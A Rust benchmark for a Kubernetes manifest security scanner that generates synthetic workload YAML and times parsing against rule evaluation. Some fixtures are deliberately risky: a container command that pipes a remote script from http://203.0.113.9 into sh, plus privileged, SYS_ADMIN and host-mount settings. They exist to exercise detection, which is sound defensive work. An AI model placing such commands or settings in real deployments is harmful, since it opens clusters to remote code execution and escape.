//! `cargo bench -p portcullis --bench scan -- --workloads 100000 --assert`
//!
//! Generates a corpus of workload documents (every built-in kind, CRDs, Services, 1–3
//! containers, a few percent risky), then times, in the same process and on one thread:
//!
//! 1. **parse**: kubectl-style document split + YAML → `serde_json::Value` (the floor any
//!    YAML scanner pays), and
//! 2. **scan**: what `portcullis scan` does per file: parse, normalise to the model,
//!    evaluate the full default pack, build and serialise every alert.
//!
//! Each is run three times; the best run counts. The target is scan ≤ 1.25 × parse.

// The baseline runs in this process; the portcullis binary uses mimalloc, so this does too,
// or the ratio would measure the allocator rather than the parser.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

use portcullis_rules::{Engine, EvalOptions, Selection};
use portcullis_sources::manifest;
use std::fmt::Write;
use std::time::{Duration, Instant};

mod common;
use common::Rng;

const DOCS_PER_FILE: usize = 100;

fn container(r: &mut Rng, i: usize, indent: &str) -> String {
    let images = [
        "nginx:1.27",
        "ghcr.io/acme/api:2.4.1",
        "registry.k8s.io/pause:3.9",
        "redis@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "quay.io/prometheus/node-exporter:v1.8.2",
        "busybox",
    ];
    let mut s = String::new();
    let _ = writeln!(s, "{indent}- name: c{i}");
    let _ = writeln!(
        s,
        "{indent}  image: {}",
        images[r.below(images.len() as u64) as usize]
    );
    let _ = writeln!(s, "{indent}  imagePullPolicy: IfNotPresent");
    match r.below(20) {
        0 => {
            let _ = writeln!(
                s,
                "{indent}  command: [/bin/sh, -c, 'curl -fsSL http://203.0.113.9/i.sh | sh']"
            );
        }
        1 => {
            let _ = writeln!(
                s,
                "{indent}  args: [--config, /etc/app/config.yaml, --port, \"8080\", --log-level=info]"
            );
        }
        2 => {
            let _ = writeln!(
                s,
                "{indent}  command: [sh, -c, 'until nc -z db 5432; do sleep 1; done; exec /app/server']"
            );
        }
        _ => {}
    }
    let _ = writeln!(
        s,
        "{indent}  ports:\n{indent}  - containerPort: 8080\n{indent}    name: http\n{indent}    protocol: TCP"
    );
    let _ = writeln!(
        s,
        "{indent}  env:\n{indent}  - name: LOG_LEVEL\n{indent}    value: info\n{indent}  - name: POD_NAME\n{indent}    valueFrom:\n{indent}      fieldRef:\n{indent}        fieldPath: metadata.name"
    );
    let _ = writeln!(
        s,
        "{indent}  resources:\n{indent}    requests: {{cpu: 100m, memory: 128Mi}}\n{indent}    limits: {{cpu: \"1\", memory: 512Mi}}"
    );
    let _ = writeln!(
        s,
        "{indent}  livenessProbe:\n{indent}    httpGet: {{path: /healthz, port: 8080}}\n{indent}    initialDelaySeconds: 10"
    );
    let _ = writeln!(
        s,
        "{indent}  volumeMounts:\n{indent}  - name: config\n{indent}    mountPath: /etc/app\n{indent}    readOnly: true"
    );
    match r.below(25) {
        0 => {
            let _ = writeln!(s, "{indent}  securityContext: {{privileged: true}}");
        }
        1 => {
            let _ = writeln!(
                s,
                "{indent}  securityContext: {{capabilities: {{add: [SYS_ADMIN]}}}}"
            );
        }
        2 => {
            let _ = writeln!(s, "{indent}  - name: host\n{indent}    mountPath: /host");
        }
        _ => {
            let _ = writeln!(
                s,
                "{indent}  securityContext:\n{indent}    allowPrivilegeEscalation: false\n{indent}    readOnlyRootFilesystem: true\n{indent}    capabilities: {{drop: [ALL]}}"
            );
        }
    }
    s
}

fn pod_spec(r: &mut Rng, indent: &str) -> String {
    let mut s = String::new();
    if r.below(30) == 0 {
        let _ = writeln!(s, "{indent}hostNetwork: true");
    }
    let _ = writeln!(s, "{indent}serviceAccountName: app");
    let _ = writeln!(
        s,
        "{indent}securityContext:\n{indent}  runAsNonRoot: true\n{indent}  seccompProfile: {{type: RuntimeDefault}}"
    );
    let _ = writeln!(s, "{indent}containers:");
    for i in 0..(1 + r.below(3) as usize) {
        s.push_str(&container(r, i, indent));
    }
    let _ = writeln!(
        s,
        "{indent}volumes:\n{indent}- name: config\n{indent}  configMap: {{name: app-config}}"
    );
    let host = if r.below(20) == 0 {
        "/var/run"
    } else {
        "/srv/data"
    };
    let _ = writeln!(
        s,
        "{indent}- name: host\n{indent}  hostPath: {{path: {host}}}"
    );
    s
}

fn document(r: &mut Rng, n: usize) -> String {
    let meta = |kind: &str, api: &str| {
        format!(
            "apiVersion: {api}\nkind: {kind}\nmetadata:\n  name: app-{n}\n  namespace: team-{}\n  labels:\n    app.kubernetes.io/name: app-{n}\n    app.kubernetes.io/part-of: shop\n  annotations:\n    deployment.kubernetes.io/revision: \"3\"\n",
            n % 17
        )
    };
    match r.below(20) {
        0..=7 => format!(
            "{}spec:\n  replicas: 3\n  selector:\n    matchLabels: {{app: app-{n}}}\n  template:\n    metadata:\n      labels: {{app: app-{n}}}\n    spec:\n{}",
            meta("Deployment", "apps/v1"),
            pod_spec(r, "      ")
        ),
        8..=9 => format!("{}spec:\n{}", meta("Pod", "v1"), pod_spec(r, "  ")),
        10 => format!(
            "{}spec:\n  selector:\n    matchLabels: {{app: app-{n}}}\n  template:\n    metadata:\n      labels: {{app: app-{n}}}\n    spec:\n{}",
            meta("DaemonSet", "apps/v1"),
            pod_spec(r, "      ")
        ),
        11..=12 => format!(
            "{}spec:\n  serviceName: app-{n}\n  selector:\n    matchLabels: {{app: app-{n}}}\n  template:\n    metadata:\n      labels: {{app: app-{n}}}\n    spec:\n{}",
            meta("StatefulSet", "apps/v1"),
            pod_spec(r, "      ")
        ),
        13 => format!(
            "{}spec:\n  template:\n    spec:\n      restartPolicy: Never\n{}",
            meta("Job", "batch/v1"),
            pod_spec(r, "      ")
        ),
        14 => format!(
            "{}spec:\n  schedule: \"*/5 * * * *\"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          restartPolicy: OnFailure\n{}",
            meta("CronJob", "batch/v1"),
            pod_spec(r, "          ")
        ),
        15 => format!(
            "{}spec:\n  template:\n    spec:\n{}",
            meta("Notebook", "kubeflow.org/v1"),
            pod_spec(r, "      ")
        ),
        _ => format!(
            "{}spec:\n  selector: {{app: app-{n}}}\n  ports:\n  - port: 80\n    targetPort: 8080\n",
            meta("Service", "v1")
        ),
    }
}

/// Files of `DOCS_PER_FILE` documents until `workloads` workload documents exist (Services
/// come on top, as in a real repository). Returns the files and the document count.
fn corpus(workloads: usize) -> (Vec<String>, usize) {
    let mut r = Rng(0x9E37_79B9_7F4A_7C15);
    let mut files = Vec::new();
    let mut cur = String::new();
    let (mut n, mut made) = (0, 0);
    while made < workloads {
        if n % DOCS_PER_FILE != 0 {
            cur.push_str("---\n");
        }
        let doc = document(&mut r, n);
        made += usize::from(!doc.contains("\nkind: Service\n"));
        cur.push_str(&doc);
        n += 1;
        if n % DOCS_PER_FILE == 0 {
            files.push(std::mem::take(&mut cur));
        }
    }
    if !cur.is_empty() {
        files.push(cur);
    }
    (files, n)
}

fn best_of<F: FnMut() -> usize>(runs: usize, mut f: F) -> (Duration, usize) {
    let mut best = Duration::MAX;
    let mut out = 0;
    for _ in 0..runs {
        let t = Instant::now();
        out = std::hint::black_box(f());
        best = best.min(t.elapsed());
    }
    (best, out)
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let workloads = args
        .iter()
        .position(|a| a == "--workloads")
        .and_then(|i| args.get(i + 1))
        .and_then(|n| n.parse().ok())
        .unwrap_or(100_000);
    let (files, documents) = corpus(workloads);
    let bytes: usize = files.iter().map(String::len).sum();
    let engine = Engine::builtin().expect("built-in pack loads");
    let evaluator = engine.evaluator(
        &Selection::default(),
        EvalOptions {
            pss: None,
            inline_suppressions: true,
        },
    );
    println!(
        "corpus: {documents} documents ({workloads} workloads, the rest Services) in {} files, {:.1} MB",
        files.len(),
        bytes as f64 / 1e6
    );
    println!("rules: {} active", evaluator.active_rules());

    let (parse, parsed) = best_of(3, || {
        let mut n = 0;
        for f in &files {
            for d in manifest::split_documents(f) {
                if manifest::parse_yaml(d.text).is_ok() {
                    n += 1;
                }
            }
        }
        n
    });
    // Where the time goes: parse + normalise only, then + evaluation (no alerts).
    let (model, _) = best_of(3, || {
        files
            .iter()
            .enumerate()
            .map(|(i, f)| {
                manifest::read(f, &format!("gen/{i}.yaml"))
                    .deployments
                    .len()
            })
            .sum()
    });
    let (eval, _) = best_of(3, || {
        let mut n = 0;
        for (i, f) in files.iter().enumerate() {
            for d in &manifest::read(f, &format!("gen/{i}.yaml")).deployments {
                n += evaluator.evaluate(d).findings.len();
            }
        }
        n
    });
    let mut alerts = 0usize;
    let (scan, scanned) = best_of(3, || {
        let mut n = 0;
        alerts = 0;
        for (i, f) in files.iter().enumerate() {
            let batch = manifest::read(f, &format!("gen/{i}.yaml"));
            n += batch.documents;
            for d in &batch.deployments {
                for finding in evaluator.evaluate(d).findings {
                    let line =
                        portcullis_output::json_line(&portcullis_output::Alert::new(d, &finding));
                    alerts += usize::from(!line.is_empty());
                }
            }
        }
        n
    });
    assert_eq!(parsed, documents);
    assert_eq!(scanned, documents);
    let rate = |d: Duration| documents as f64 / d.as_secs_f64();
    let ratio = scan.as_secs_f64() / parse.as_secs_f64();
    println!();
    println!("| stage | time (best of 3) | documents/s | MB/s |");
    println!("|---|---|---|---|");
    for (name, d) in [
        ("YAML parse only (baseline)", parse),
        ("+ normalise to the model", model),
        ("+ evaluate the pack", eval),
        ("portcullis scan pipeline (+ alerts as JSON)", scan),
    ] {
        println!(
            "| {name} | {:.3} s | {:.0} | {:.1} |",
            d.as_secs_f64(),
            rate(d),
            bytes as f64 / 1e6 / d.as_secs_f64()
        );
    }
    println!();
    println!("alerts: {alerts}");
    println!(
        "scan / parse = {ratio:.3} (rule evaluation adds {:.1}% over parsing; target ≤ 25%)",
        (ratio - 1.0) * 100.0
    );
    if ratio > 1.25 {
        println!("TARGET MISSED");
        // Noisy shared machines: fail only when asked, as the documented run does.
        if args.iter().any(|a| a == "--assert") {
            std::process::exit(1);
        }
    }
}
